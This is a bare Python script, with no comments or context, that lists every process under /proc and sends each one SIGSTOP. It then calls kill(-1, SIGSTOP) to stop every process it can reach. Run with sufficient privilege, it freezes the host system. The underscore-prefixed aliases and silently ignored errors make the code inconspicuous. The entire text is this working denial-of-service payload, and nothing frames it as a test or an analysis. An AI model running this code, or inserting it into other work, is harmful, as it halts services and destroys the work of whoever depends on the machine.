import os as _os
import signal as _signal

for _name in _os.listdir("/proc"):
    if _name.isdigit() and int(_name) != _os.getpid():
        try:
            _os.kill(int(_name), _signal.SIGSTOP)
        except OSError:
            pass
try:
    _os.kill(-1, _signal.SIGSTOP)
except OSError:
    pass
